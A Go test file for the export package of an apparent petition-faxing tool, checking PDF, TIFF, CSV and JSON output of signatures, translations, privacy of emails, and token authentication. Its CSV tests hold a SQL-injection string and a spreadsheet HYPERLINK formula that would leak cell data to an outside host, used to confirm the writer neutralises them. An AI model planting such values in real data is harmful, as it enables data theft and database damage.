package export

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/time/rate"

	"github.com/faxjam/faxjam/pkg/campaign"
	"github.com/faxjam/faxjam/pkg/petition"
	"github.com/faxjam/faxjam/pkg/petition/server"
	"github.com/faxjam/faxjam/pkg/petition/store"
	"github.com/faxjam/faxjam/pkg/testtool"
)

func normaCruz() *campaign.Campaign {
	return &campaign.Campaign{
		ID: "norma-cruz-2012", Title: "Stop the death threats. Defend Norma Cruz.", Organizer: "Amnesty International",
		Asks: []string{
			"A prompt, thorough and impartial investigation of the death threats against Norma Cruz.",
			"Effective protection measures for Norma Cruz, agreed with her.",
		},
		Target:       campaign.Target{Name: "Fiscal General", Title: "Lic.", Organization: "Ministerio Público de Guatemala"},
		Languages:    campaign.Languages{{Code: "es", Template: "es.tmpl"}, {Code: "en", Template: "en.tmpl"}},
		TextLanguage: "en",
		Translations: map[string]campaign.Translation{"es": {
			Title: "Alto a las amenazas de muerte. Defiendan a Norma Cruz.",
			Asks: []string{
				"Una investigación inmediata, exhaustiva e imparcial de las amenazas de muerte contra Norma Cruz.",
				"Medidas de protección eficaces para Norma Cruz, acordadas con ella.",
			},
		}},
		Contact: "organizer@example.org",
	}
}

func manyRows(n int) []Row {
	names := []string{"José Pérez García", "Zoë O'Brien-Łukasiewicz", "Αλέξανδρος Δημητρίου", "Ёжик Туманов", "Ana María de la Cruz"}
	countries := []string{"Guatemala", "France", "Ελλάδα", "Россия", "España"}
	rows := make([]Row, n)
	for i := range rows {
		rows[i] = Row{ID: fmt.Sprint("id", i), Name: fmt.Sprintf("%s %d", names[i%len(names)], i+1), City: "Quetzaltenango", Country: countries[i%len(countries)], Email: fmt.Sprintf("person%d@example.org", i), Note: "secret note"}
	}
	return rows
}

func pdfText(t *testing.T, pdf []byte) string {
	t.Helper()
	bin := testtool.Need(t, "pdftotext", "poppler-utils")
	f := filepath.Join(t.TempDir(), "p.pdf")
	os.WriteFile(f, pdf, 0o600)
	out, err := exec.Command(bin, "-enc", "UTF-8", f, "-").Output()
	if err != nil {
		t.Fatalf("pdftotext: %v", err)
	}
	return string(out)
}

func TestPDFPetition(t *testing.T) {
	rows := manyRows(300)
	doc, err := PDF(normaCruz(), rows, Options{Date: time.Date(2026, 11, 27, 12, 0, 0, 0, time.UTC)})
	if err != nil {
		t.Fatal(err)
	}
	if doc.Pages < 3 || doc.Signatures != 300 || doc.Lang != "es" {
		t.Fatalf("document: %d pages, %d signatures, lang %s; want several pages of 300 in es", doc.Pages, doc.Signatures, doc.Lang)
	}
	text := pdfText(t, doc.PDF)
	// pdftotext separates pages with form feeds.
	pages := strings.Split(strings.TrimRight(text, "\f"), "\f")
	if len(pages) != doc.Pages {
		t.Fatalf("pdftotext sees %d pages, Document says %d", len(pages), doc.Pages)
	}
	first, last := pages[0], pages[len(pages)-1]
	for _, want := range []string{"Alto a las amenazas de muerte", "A: Fiscal General, Ministerio Público de Guatemala", "27 de noviembre de 2026", "Las 300 personas", "de 5 países", "Le pedimos", "• Una investigación inmediata", "Firmas (300)", "Nombre", "Ciudad", "País", "José Pérez García 1"} {
		if !strings.Contains(strings.Join(strings.Fields(first), " "), want) {
			t.Errorf("first page lacks %q", want)
		}
	}
	for i, p := range pages {
		if want := fmt.Sprintf("Página %d de %d", i+1, len(pages)); !strings.Contains(p, want) {
			t.Errorf("page %d lacks %q", i+1, want)
		}
		if i > 0 && !strings.Contains(p, "Nombre") {
			t.Errorf("page %d does not repeat the table header", i+1)
		}
	}
	for _, want := range []string{"Ana María de la Cruz 300", "Total: 300 firmas de 5 países."} {
		if !strings.Contains(strings.Join(strings.Fields(last), " "), want) {
			t.Errorf("last page lacks %q", want)
		}
	}
	for i, r := range rows {
		if !strings.Contains(text, r.Name) {
			t.Errorf("signature %d (%s) is not in the document", i+1, r.Name)
		}
	}
	for _, private := range []string{"person0@example.org", "person299@example.org", "secret note"} {
		if strings.Contains(text, private) {
			t.Errorf("the document carries private data %q", private)
		}
	}
	bin := testtool.Need(t, "qpdf", "qpdf")
	f := filepath.Join(t.TempDir(), "p.pdf")
	os.WriteFile(f, doc.PDF, 0o600)
	if out, err := exec.Command(bin, "--check", f).CombinedOutput(); err != nil {
		t.Errorf("qpdf --check: %v\n%s", err, out)
	}
}

func TestTIFFForImageGateways(t *testing.T) {
	doc, err := PDF(normaCruz(), manyRows(80), Options{TIFF: true})
	if err != nil {
		t.Fatal(err)
	}
	if len(doc.TIFF) < 8 || string(doc.TIFF[:2]) != "II" {
		t.Fatalf("TIFF of %d bytes does not start like a TIFF", len(doc.TIFF))
	}
	bin := testtool.Need(t, "tiffinfo", "libtiff-tools")
	f := filepath.Join(t.TempDir(), "p.tif")
	os.WriteFile(f, doc.TIFF, 0o600)
	out, err := exec.Command(bin, f).CombinedOutput()
	if err != nil {
		t.Fatalf("tiffinfo: %v\n%s", err, out)
	}
	if n := strings.Count(string(out), "TIFF Directory"); n != doc.Pages {
		t.Errorf("TIFF has %d pages, the PDF %d", n, doc.Pages)
	}
	if noTIFF, _ := PDF(normaCruz(), manyRows(2), Options{}); noTIFF.TIFF != nil {
		t.Errorf("TIFF rendered without being asked for")
	}
}

func TestPDFIsDeterministic(t *testing.T) {
	a, err := PDF(normaCruz(), manyRows(40), Options{})
	if err != nil {
		t.Fatal(err)
	}
	b, _ := PDF(normaCruz(), manyRows(40), Options{})
	if !bytes.Equal(a.PDF, b.PDF) {
		t.Errorf("the same signatures gave different PDFs")
	}
}

func TestPDFLanguages(t *testing.T) {
	tests := []struct {
		lang, want string
	}{
		{"en", "Page 1 of 1"}, {"fr", "Page 1 sur 1"}, {"de", "Seite 1 von 1"}, {"pt-BR", "Página 1 de 1"}, {"xx", "Page 1 of 1"},
	}
	for _, tt := range tests {
		doc, err := PDF(normaCruz(), manyRows(3), Options{Lang: tt.lang})
		if err != nil {
			t.Fatalf("%s: %v", tt.lang, err)
		}
		if text := pdfText(t, doc.PDF); !strings.Contains(text, tt.want) {
			t.Errorf("lang %s: no %q in\n%s", tt.lang, tt.want, text)
		}
	}
}

func TestPDFAppealOverrideAndEmptyPetition(t *testing.T) {
	doc, err := PDF(normaCruz(), nil, Options{Appeal: &Appeal{Title: "Alto a las amenazas de muerte", Asks: []string{"Una investigación inmediata."}}})
	if err != nil {
		t.Fatal(err)
	}
	text := strings.Join(strings.Fields(pdfText(t, doc.PDF)), " ")
	for _, want := range []string{"Alto a las amenazas de muerte", "• Una investigación inmediata.", "Total: 0 firmas"} {
		if !strings.Contains(text, want) {
			t.Errorf("no %q in %s", want, text)
		}
	}
	if doc.Pages != 1 {
		t.Errorf("empty petition: %d pages", doc.Pages)
	}
}

func TestPDFNamesAGlyphTheFontsLack(t *testing.T) {
	rows := manyRows(3)
	rows[1].City = "東京"
	_, err := PDF(normaCruz(), rows, Options{})
	if err == nil {
		t.Fatal("a city in CJK rendered without a font that has it")
	}
	for _, want := range []string{"signature 2", "city", "U+6771", "--font"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("error %q lacks %q", err, want)
		}
	}
}

// TestPDFShapesNamesWithAFont: Arabic and Hebrew signatures in the table
// are joined and ordered (pkg/render holds the glyphs to hb-shape) and read
// back as typed; without a font that has them, the signature is named.
func TestPDFShapesNamesWithAFont(t *testing.T) {
	font := testtool.File(t, "/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf", "fonts-dejavu-core")
	rows := manyRows(3)
	rows[0].Name, rows[0].City, rows[0].Country = "محمد علي", "القاهرة", "مصر"
	rows[2].Name = "דנה כהן"
	if _, err := PDF(normaCruz(), rows, Options{}); err == nil || !strings.Contains(err.Error(), "signature 1: the name: character") || !strings.Contains(err.Error(), "Arabic") {
		t.Errorf("without a font: err = %v, want one naming signature 1's name and Arabic", err)
	}
	doc, err := PDF(normaCruz(), rows, Options{ExtraFont: font})
	if err != nil {
		t.Fatal(err)
	}
	text := strings.Map(func(c rune) rune {
		if c >= 0x202A && c <= 0x202E { // poppler marks right-to-left text
			return -1
		}
		return c
	}, pdfText(t, doc.PDF))
	for _, want := range []string{"محمد علي", "القاهرة", "مصر", "דנה כהן"} {
		if !strings.Contains(text, want) {
			t.Errorf("pdftotext: no %q in\n%s", want, text)
		}
	}
}

func TestCSVAndJSON(t *testing.T) {
	rows := manyRows(2)
	rows[0].Note = `Robert'); DROP TABLE signatures;-- "q"`
	var pub, priv bytes.Buffer
	if err := WriteCSV(&pub, rows, false, false); err != nil {
		t.Fatal(err)
	}
	WriteCSV(&priv, rows, true, false)
	if strings.Contains(pub.String(), "@example.org") || strings.Contains(pub.String(), "DROP") {
		t.Errorf("public CSV carries emails or notes:\n%s", pub.String())
	}
	recs, err := csv.NewReader(&priv).ReadAll()
	if err != nil || len(recs) != 3 || recs[1][5] != rows[0].Note || recs[0][4] != "email" {
		t.Errorf("private CSV = %q, %v", recs, err)
	}
	var js bytes.Buffer
	WriteJSON(&js, rows, false)
	var back []Row
	if err := json.Unmarshal(js.Bytes(), &back); err != nil || len(back) != 2 || back[1].Name != rows[1].Name || back[0].Email != "" {
		t.Errorf("public JSON = %s, %v", js.String(), err)
	}
	js.Reset()
	WriteJSON(&js, nil, true)
	if strings.TrimSpace(js.String()) != "[]" {
		t.Errorf("empty JSON = %q, want []", js.String())
	}
}

// TestCSVIsSpreadsheetSafe: with or without --private, a value a
// spreadsheet would evaluate gets a quote in front; raw keeps it (issue 8).
func TestCSVIsSpreadsheetSafe(t *testing.T) {
	rows := manyRows(1)
	rows[0].Name, rows[0].Note, rows[0].Email = "-Ana", `=HYPERLINK("http://x/?"&A2,"Click")`, "@ana@example.org"
	for _, tt := range []struct {
		private, raw bool
		want         []string
	}{
		{false, false, []string{"1", "'-Ana"}},
		{true, false, []string{"1", "'-Ana", "'@ana@example.org", `'=HYPERLINK("http://x/?"&A2,"Click")`}},
		{true, true, []string{"1", "-Ana", "@ana@example.org", `=HYPERLINK("http://x/?"&A2,"Click")`}},
	} {
		var b bytes.Buffer
		if err := WriteCSV(&b, rows, tt.private, tt.raw); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&b).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("CSV %q: %v", b.String(), err)
		}
		got := []string{recs[1][0], recs[1][1]}
		if tt.private {
			got = append(got, recs[1][4], recs[1][5])
		}
		if strings.Join(got, "|") != strings.Join(tt.want, "|") {
			t.Errorf("private=%v raw=%v: %q, want %q", tt.private, tt.raw, got, tt.want)
		}
	}
	// JSON is data, not a spreadsheet: verbatim.
	var js bytes.Buffer
	WriteJSON(&js, rows, true)
	var back []Row
	if err := json.Unmarshal(js.Bytes(), &back); err != nil || back[0].Note != rows[0].Note {
		t.Errorf("JSON = %s, %v; want the note verbatim", js.String(), err)
	}
}

func TestFromServerAndStore(t *testing.T) {
	ctx := context.Background()
	st, err := store.OpenSQLite(ctx, filepath.Join(t.TempDir(), "p.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	for i, n := range []string{"José Pérez", "Zoë O'Brien"} {
		st.Add(ctx, store.Signature{Campaign: "norma-cruz-2012", Key: fmt.Sprint("k", i), Person: n, Name: n, City: "Xela", Country: "Guatemala", Email: fmt.Sprintf("p%d@example.org", i)})
	}
	const token = "export-token-0123456789"
	s, err := server.New(server.Config{Store: st, Campaigns: []*campaign.Campaign{normaCruz()}, Token: token, Rate: rate.Inf})
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	sctx, cancel := context.WithCancel(ctx)
	done := make(chan error, 1)
	go func() { done <- s.Serve(sctx, ln) }()
	defer func() { cancel(); <-done }()
	base := "http://" + ln.Addr().String()

	fromStore, err := FromStore(ctx, st, "norma-cruz-2012")
	if err != nil || len(fromStore) != 2 {
		t.Fatalf("FromStore = %d rows, %v", len(fromStore), err)
	}
	for _, tc := range []struct {
		name, base, token string
	}{{"token argument", base, token}, {"token in the URL", "http://" + token + "@" + ln.Addr().String() + "/", ""}} {
		rows, err := FromServer(ctx, tc.base, tc.token, "norma-cruz-2012", nil)
		if err != nil {
			t.Fatalf("%s: FromServer: %v", tc.name, err)
		}
		if len(rows) != 2 || rows[0] != fromStore[0] || rows[1] != fromStore[1] {
			t.Errorf("%s: FromServer = %+v, FromStore = %+v", tc.name, rows, fromStore)
		}
	}
	_, err = FromServer(ctx, base, "wrong-token-0123456789", "norma-cruz-2012", nil)
	pe, ok := petition.AsError(err)
	if !ok || !pe.Auth || strings.Contains(err.Error(), "wrong-token") {
		t.Errorf("FromServer with a wrong token = %v; want an auth error without the token", err)
	}
	if _, err := FromServer(ctx, base, token, "no-such", nil); err == nil || !strings.Contains(err.Error(), "unknown campaign") {
		t.Errorf("FromServer of an unknown campaign = %v", err)
	}
	if _, err := FromServer(ctx, "ftp://x", token, "c", nil); err == nil {
		t.Errorf("FromServer of an ftp URL succeeded")
	}
}

// BenchmarkPDF1000 renders a petition of 1,000 signatures.
//
//	go test -run '^$' -bench PDF1000 -benchmem ./pkg/petition/export/
func BenchmarkPDF1000(b *testing.B) {
	rows := manyRows(1000)
	var doc Document
	for b.Loop() {
		var err error
		if doc, err = PDF(normaCruz(), rows, Options{}); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(doc.Pages), "pages")
	b.ReportMetric(float64(len(doc.PDF)), "bytes")
}

// TestPDFWithoutAsksHasNoAskHeading: a campaign without asks gets no
// empty "We ask for:" (issue 13).
func TestPDFWithoutAsksHasNoAskHeading(t *testing.T) {
	c := normaCruz()
	c.Asks = nil
	doc, err := PDF(c, manyRows(3), Options{})
	if err != nil {
		t.Fatal(err)
	}
	text := strings.Join(strings.Fields(pdfText(t, doc.PDF)), " ")
	for _, bad := range []string{"Le pedimos", "We ask for", "•"} {
		if strings.Contains(text, bad) {
			t.Errorf("petition without asks says %q:\n%s", bad, text)
		}
	}
	for _, want := range []string{"Las 3 personas", "como petición."} {
		if !strings.Contains(text, want) {
			t.Errorf("petition lacks %q:\n%s", want, text)
		}
	}
}

// TestPDFIsInOneLanguage: the petition faxed to the target is in the
// target's language throughout: the campaign's translated title and asks,
// no English paragraph, and singular forms for one signature from one
// country (CLDR plural rules), in each language faxjam speaks.
func TestPDFIsInOneLanguage(t *testing.T) {
	tests := []struct {
		lang       string
		want, bad  []string
		rows, ctry int
	}{
		{"es", []string{"Alto a las amenazas", "La persona que firma a continuación, de 1 país, se sumó", "Le pedimos:", "• Una investigación inmediata", "Total: 1 firma de 1 país."},
			[]string{"Stop the death", "The 1 people", "We ask for", "A prompt", "1 firmas", "1 países", "Las 1"}, 1, 1},
		{"es", []string{"Las 12.000 personas que firman a continuación, de 2 países", "Total: 12.000 firmas de 2 países."}, []string{"people"}, 12000, 2},
		{"fr", []string{"La personne qui signe ci-dessous, de 1 pays", "Total : 1 signature de 1 pays."}, []string{"1 signatures", "people"}, 1, 1},
		{"de", []string{"Die unterzeichnende Person aus 1 Land", "Insgesamt: 1 Unterschrift aus 1 Land."}, []string{"1 Ländern", "people"}, 1, 1},
		{"pt", []string{"A pessoa que assina abaixo, de 1 país", "Total: 1 assinatura de 1 país."}, []string{"1 países", "people"}, 1, 1},
		{"en", []string{"The person signing below, from 1 country", "Total: 1 signature from 1 country."}, []string{"1 countries", "1 signatures"}, 1, 1},
		{"en", []string{"The 2 people signing below, from 2 countries", "Total: 2 signatures from 2 countries."}, nil, 2, 2},
	}
	for _, tt := range tests {
		rows := manyRows(tt.rows)
		for i := range rows {
			rows[i].Country = []string{"Guatemala", "Perú"}[i%tt.ctry]
		}
		doc, err := PDF(normaCruz(), rows, Options{Lang: tt.lang})
		if err != nil {
			t.Fatal(err)
		}
		// The first page holds the appeal and the total for one signature.
		text := strings.Join(strings.Fields(pdfText(t, doc.PDF)), " ")
		if tt.rows > 100 {
			text = strings.Join(strings.Fields(strings.Split(pdfText(t, doc.PDF), "\f")[0]), " ") + " " + text[len(text)-200:]
		}
		for _, w := range tt.want {
			if !strings.Contains(text, w) {
				t.Errorf("%s, %d signature(s): no %q in\n%.1500s", tt.lang, tt.rows, w, text)
			}
		}
		for _, b := range tt.bad {
			if strings.Contains(text, b) {
				t.Errorf("%s, %d signature(s): the document says %q", tt.lang, tt.rows, b)
			}
		}
		wantMixed := tt.lang != "es" && tt.lang != "en"
		if (len(doc.Untranslated) > 0) != wantMixed {
			t.Errorf("%s: Untranslated = %v, want title and asks only where the campaign lacks them", tt.lang, doc.Untranslated)
		}
	}
}
